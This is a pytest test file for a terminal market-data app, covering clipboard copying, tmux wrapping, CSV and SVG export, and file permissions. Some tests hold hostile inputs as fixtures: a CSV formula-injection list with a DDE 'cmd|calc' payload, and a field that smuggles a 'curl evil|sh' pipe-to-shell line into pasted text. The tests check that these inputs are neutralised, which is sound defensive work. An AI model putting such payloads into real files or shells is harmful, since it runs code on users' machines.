"""What is taken out of the screen: OSC 52, tmux's envelope, CSV that no spreadsheet obeys, SVG."""

from __future__ import annotations

import base64
import csv
import re
from pathlib import Path

import msgspec
import pytest

from kitetui.app import KiteApp
from kitetui.settings import Settings
from kitetui.takeout import KEPT, Takeout
from kitetui.widgets.safe_text import clean
from kitetui.widgets.watchlist import Watchlist
from tests.links import MarketLink
from tests.widgets import views


@pytest.fixture
def app(settings: Settings, tmp_path: Path) -> KiteApp:
    return KiteApp(settings.screen, MarketLink(), tmp_path)


async def written(app: KiteApp, keys: list[str], size: tuple[int, int] = (200, 50)) -> tuple[
        str, list[str]]:  # fmt: skip
    """What goes to the terminal beside the frames, and what is said."""
    out: list[str] = []
    said: list[str] = []
    app.notify = lambda text, **_: said.append(text)  # type: ignore[method-assign]
    async with app.run_test(size=size) as pilot:
        await pilot.pause(0.5)
        assert app._driver is not None
        app._driver.write = out.append  # type: ignore[method-assign]
        for key in keys:
            await pilot.press(key)
            await pilot.pause(0.1)
        await pilot.pause(0.3)
    return "".join(out), said


def clips(sent: str) -> list[str]:
    return [
        base64.b64decode(part).decode() for part in re.findall(r"\x1b\]52;c;([^\x07]*)\x07", sent)
    ]


async def test_the_line_under_the_cursor_is_copied(app: KiteApp, tmp_path: Path) -> None:
    sent, said = await written(app, ["1", "j", "j", "j", "y"])
    assert len(clips(sent)) == 1 and clips(sent)[0].startswith("RELIANCE")
    kept = tmp_path / "taken" / "copied.txt"
    assert kept.read_text() == clips(sent)[0] and kept.stat().st_mode & 0o777 == 0o600
    assert kept.parent.stat().st_mode & 0o777 == 0o700
    assert any(str(kept) in text for text in said)


async def test_an_alert_is_copied_with_the_command_that_explains_it(app: KiteApp) -> None:
    sent, _ = await written(app, ["6", "y"])
    line, command = clips(sent)[0].splitlines()
    assert "SYM0\tvolume_spike" in line and re.fullmatch(r"kitetui explain \w+", command)


async def test_a_pane_is_copied_whole_and_tmux_gets_its_envelope(
    app: KiteApp, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,1,0")
    sent, said = await written(app, ["1", "j", "j", "j", "2", "Y"])
    plain, wrapped = clips(sent)
    assert plain == wrapped and "imbalance" in plain and plain.count("\n") > 15
    assert "\x1bPtmux;\x1b\x1b]52;" in sent and sent.endswith("\x1b\\")
    assert any("lines" in text for text in said)


async def test_the_watchlist_is_saved_whole_whatever_is_on_the_screen(
    app: KiteApp, tmp_path: Path
) -> None:
    await written(app, ["1", "D"], (80, 24))
    (path,) = (tmp_path / "taken").glob("watchlist-*.csv")
    rows = list(csv.DictReader(path.open()))
    assert len(rows) == 90 and {"symbol", "ltp", "volume"} <= set(rows[0])
    reliance = next(row for row in rows if row["symbol"] == "RELIANCE")
    assert float(reliance["ltp"]) > 0 and int(reliance["volume"]) > 0


async def test_other_panes_are_saved_as_they_are_shown(app: KiteApp, tmp_path: Path) -> None:
    await written(app, ["6", "D", "2", "D"])
    (alerts,) = (tmp_path / "taken").glob("alerts-*.csv")
    assert [row["SYMBOL"] for row in csv.DictReader(alerts.open())] == ["SYM0", "SYM1"]
    assert len(list((tmp_path / "taken").glob("depth-*.csv"))) == 1


async def test_a_picture_is_an_svg_that_asks_nobody_for_a_font(
    app: KiteApp, tmp_path: Path
) -> None:
    _, said = await written(app, ["P"])
    (path,) = (tmp_path / "taken").glob("screen-*.svg")
    drawn = path.read_text()
    assert "RELIANCE" in drawn and "@font-face" not in drawn and "url(http" not in drawn
    assert any(str(path) in text for text in said)


async def test_what_cannot_be_saved_is_said(settings: Settings, tmp_path: Path) -> None:
    (tmp_path / "taken").write_text("in the way")
    _, said = await written(KiteApp(settings.screen, MarketLink(), tmp_path), ["P", "1", "y"])
    assert sum("taken" in text for text in said) == 2
    _, said = await written(KiteApp(settings.screen, MarketLink()), ["P"])
    assert "this screen has no folder to save into" in said


@pytest.mark.parametrize("evil", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\tx"])
def test_no_cell_is_a_formula_and_numbers_stay_numbers(tmp_path: Path, evil: str) -> None:
    path = Takeout(tmp_path / "taken").table("x", "1", ("A", "B"), [(evil, "+0.82"), (-3, "-5.9K")])
    rows = list(csv.reader(path.open(newline="")))
    assert rows[1] == [f"'{clean(evil)}", "+0.82"] and rows[2] == ["-3", "-5.9K"]


async def test_what_is_copied_carries_no_key_press(app: KiteApp) -> None:
    """A name with a line's end, pasted into a shell, would run."""
    link: MarketLink = app.link  # type: ignore[assignment]
    evil = msgspec.structs.replace(views.alert(0), symbol="x\ncurl evil|sh\n\x1b[A")
    link.picture = msgspec.structs.replace(link.picture, alerts=(evil,))
    sent, _ = await written(app, ["6", "y", "Y"])
    line, pane = clips(sent)
    assert line.count("\n") == 1 and line.splitlines()[1].startswith("kitetui explain ")
    assert "\x1b" not in line + pane and "curl evil|sh\n" not in pane


def test_old_files_leave(tmp_path: Path) -> None:
    out = Takeout(tmp_path / "taken")
    for at in range(KEPT + 5):
        out.table("x", str(at), ("A",), [(at,)])
    assert len(list((tmp_path / "taken").iterdir())) == KEPT


async def test_where_nothing_is_there_is_nothing_to_copy(app: KiteApp) -> None:
    link: MarketLink = app.link  # type: ignore[assignment]
    link.picture = msgspec.structs.replace(link.picture, alerts=())
    sent, said = await written(app, ["6", "y"])
    assert clips(sent) == [] and "nothing to copy" in said


def test_the_watchlist_has_a_line_only_where_its_cursor_is_in_sight() -> None:
    assert Watchlist().line_here == ""
